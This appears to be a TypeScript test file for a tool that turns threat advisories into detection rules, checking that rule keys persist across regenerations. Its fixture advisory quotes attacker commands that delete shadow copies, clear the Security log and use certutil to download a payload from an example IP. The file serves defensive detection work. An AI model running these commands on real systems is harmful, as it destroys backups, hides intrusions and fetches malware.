import { generate, type RuleBefore } from '../../src/index.js';
import { textAdvisory } from '../support/documents.js';

const TEXT = `The intruders worked on Windows hosts.

They removed the shadow copies with vssadmin.exe delete shadows /all /quiet and cleared the log with wevtutil.exe cl Security.

They then ran certutil.exe -urlcache -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe on each.`;
const OLD = ['00000000-0000-5000-8000-00000000000a', '00000000-0000-5000-8000-00000000000b'] as const;

const doc = await textAdvisory(TEXT);
const now = generate(doc).rules;
/** A rule as another engine named it: key, title, description and the names of its parts. */
const renamed = ({ key, yaml }: RuleBefore, old: string): RuleBefore => ({
  key: old,
  yaml: yaml.replace(key, old).replace(/^title: .*$/m, 'title: What it was called then'),
});

test('a rule that the document gave under another key keeps that key for as long as log and values stay', () => {
  expect(now.length).toBeGreaterThan(1);
  const [first, second, ...rest] = now;
  if (first === undefined || second === undefined) throw new Error('too few rules');
  const before = [renamed(second, OLD[1]), renamed(first, OLD[0])];
  const { rules } = generate(doc, { before });
  expect(rules.map(({ key }) => key)).toEqual([...OLD, ...rest.map(({ key }) => key)]);
  expect(rules[0]).toEqual({ ...first, key: OLD[0], yaml: first.yaml.replace(first.key, OLD[0]) });
  expect(rules[0]?.yaml).toContain(`id: ${OLD[0]}`);
});

test('a rule that has its key still keeps it, whatever else the document gave', () => {
  const [first] = now;
  if (first === undefined) throw new Error('no rule');
  expect(generate(doc, { before: [renamed(first, OLD[0]), first] }).rules).toEqual(now);
});

test('a rule of other values or another log takes no key', () => {
  const [first] = now;
  if (first === undefined) throw new Error('no rule');
  const other = renamed(first, OLD[0]);
  const before = [
    { ...other, yaml: other.yaml.replace(/vssadmin|wevtutil|certutil/g, 'other') },
    { key: OLD[1], yaml: other.yaml.replace('category: process_creation', 'category: file_event') },
    { key: OLD[1], yaml: 'no: rule' },
    { key: OLD[1], yaml: ':' },
  ];
  expect(generate(doc, { before }).rules).toEqual(now);
});

test('no key is given twice, and none is lost', () => {
  const [first] = now;
  if (first === undefined) throw new Error('no rule');
  const { rules } = generate(doc, { before: [renamed(first, OLD[0]), renamed(first, OLD[1])] });
  expect(new Set(rules.map(({ key }) => key)).size).toBe(now.length);
  expect(rules[0]?.key).toBe(OLD[0]);
});
